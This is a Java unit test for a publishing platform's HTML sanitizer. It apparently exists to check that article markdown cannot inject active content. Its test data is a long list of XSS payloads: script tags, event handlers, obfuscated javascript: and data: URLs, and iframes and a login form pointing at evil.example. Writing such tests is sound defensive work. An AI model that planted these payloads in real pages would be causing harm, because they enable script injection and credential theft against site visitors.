package vn.cchc.publisher.content.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static vn.cchc.publisher.content.internal.TestArticles.LINKS;
import static vn.cchc.publisher.content.internal.TestArticles.article;

import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What an attacker could put in an article's markdown, and what must come out on the website. */
class HtmlSanitizerTest {

    private static final Set<String> ALLOWED_TAGS = Set.of(
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "p",
            "br",
            "hr",
            "ul",
            "ol",
            "li",
            "blockquote",
            "pre",
            "code",
            "em",
            "strong",
            "i",
            "b",
            "del",
            "s",
            "sub",
            "sup",
            "table",
            "caption",
            "thead",
            "tbody",
            "tfoot",
            "tr",
            "th",
            "td",
            "a",
            "img");

    private final WebsiteRenderer renderer = new WebsiteRenderer();

    static Stream<String> hostile() {
        return Stream.of(
                "<script>alert(1)</script>",
                "Chào <script src=\"https://evil.example/x.js\"></script> bạn",
                "<scr<script>ipt>alert(1)</script>",
                "<img src=\"img/a.jpg\" onerror=\"alert(1)\">",
                "<img src=x onerror=alert(1)//",
                "<p onmouseover=\"alert(1)\">rê chuột</p>",
                "[bấm vào đây](javascript:alert(1))",
                "[bấm](<javascript:alert(1)>)",
                "<javascript:alert(1)>",
                "<a href=\"JaVaScRiPt:alert(1)\">hoa thường</a>",
                "<a href=\" javascript:alert(1)\">có dấu cách</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
                "<a href=\"jav\nascript:alert(1)\">xuống dòng</a>",
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">thực thể</a>",
                "<a href=\"&#x6A;avascript&colon;alert(1)\">thực thể hex</a>",
                "[thực thể](&#106;avascript:alert(1))",
                "<a href=\"vbscript:msgbox(1)\">vb</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
                "![ảnh](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\">",
                "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
                "<form action=\"https://evil.example\"><input name=\"mat-khau\"><button>Gửi</button></form>",
                "<svg onload=\"alert(1)\"><circle r=\"1\"/></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>svg</text></a></svg>",
                "<math><mi xlink:href=\"javascript:alert(1)\">toán</mi></math>",
                "<p style=\"background:url(javascript:alert(1))\">Đẹp</p>",
                "<style>body { display: none }</style>",
                "<div><p><b>đậm <i>nghiêng</p></div><a href=\"https://ok.example\">",
                "<table><tr><td onclick=\"x()\">ô<td><img src=x onerror=alert(1)></table>",
                "<a href=\"https://ok.example\" onclick=\"steal()\" style=\"color:red\" target=\"_blank\">ok</a>",
                "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                "<details open ontoggle=\"alert(1)\"><summary>x</summary></details>",
                "<!-- <img src=x onerror=alert(1)> -->",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<video><source onerror=\"alert(1)\"></video><audio src=x onerror=alert(1)>");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void leavesNothingThatRunsOrLeaksInTheWebsiteHtml(String markdown) {
        String html = renderer.render(article("A", markdown).build(), LINKS).html();
        Document doc = Jsoup.parseBodyFragment(html);

        for (Element element : doc.body().getAllElements()) {
            if (element == doc.body()) {
                continue;
            }
            assertThat(ALLOWED_TAGS)
                    .as("element <%s> in %s", element.tagName(), html)
                    .contains(element.tagName());
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name)
                        .as("attribute in %s", html)
                        .doesNotStartWith("on")
                        .isNotEqualTo("style");
                assertThat(name).isNotEqualTo("target").isNotEqualTo("srcdoc");
                if (name.equals("href") || name.equals("src")) {
                    String url = attribute
                            .getValue()
                            .replaceAll("[\\s\\u0000-\\u001F]", "")
                            .toLowerCase(Locale.ROOT);
                    assertThat(url)
                            .as("URL in %s", html)
                            .doesNotStartWith("javascript:")
                            .doesNotStartWith("vbscript:")
                            .doesNotStartWith("data:");
                }
            }
        }
        assertThat(html.toLowerCase(Locale.ROOT)).doesNotContain("<script", "<iframe", "<svg", "<style");
    }

    @Test
    void keepsTheTextAUserWroteAroundRemovedMarkup() {
        String html = renderer.render(
                        article("A", "<p style=\"color:red\" onclick=\"x()\">Đẹp</p>\n\nChào <script>x()</script> bạn")
                                .build(),
                        LINKS)
                .html();
        Document doc = Jsoup.parseBodyFragment(html);

        assertThat(doc.select("p").eachText()).containsExactly("Đẹp", "Chào bạn");
        assertThat(html).doesNotContain("x()");
    }

    @Test
    void keepsALinkButDropsAJavascriptUrl() {
        Document doc = Jsoup.parseBodyFragment(renderer.render(
                        article("A", "[bấm vào đây](javascript:alert(1))").build(), LINKS)
                .html());

        assertThat(doc.select("a").text()).isEqualTo("bấm vào đây");
        assertThat(doc.select("a").hasAttr("href")).isFalse();
    }

    @Test
    void keepsSafeRawHtmlAndRewritesItsImages() {
        Document doc = Jsoup.parseBodyFragment(renderer.render(
                        article(
                                        "A",
                                        "<p>Ảnh <img src=\"img/a.jpg\" alt=\"a\"> và <a href=\"https://ok.example\" onclick=\"x\">ok</a></p>")
                                .build(),
                        LINKS)
                .html());

        assertThat(doc.select("img").attr("src")).isEqualTo("https://ttyt.example.vn/media/articles/img/a.jpg");
        assertThat(doc.select("a").attr("href")).isEqualTo("https://ok.example");
        assertThat(doc.select("a").attr("rel")).isEqualTo("nofollow noopener");
    }

    @Test
    void closesUnclosedTags() {
        String html = renderer.render(
                        article("A", "<div><p><b>đậm <i>nghiêng</p>").build(), LINKS)
                .html();

        assertThat(html).startsWith("<p><b>đậm <i>nghiêng</i></b></p>").doesNotContain("<div");
        assertThat(Jsoup.parseBodyFragment(html).body().html().replaceAll("\\s", ""))
                .as("well-formed: parsing changes nothing")
                .isEqualTo(html.replaceAll("\\s", ""));
    }
}
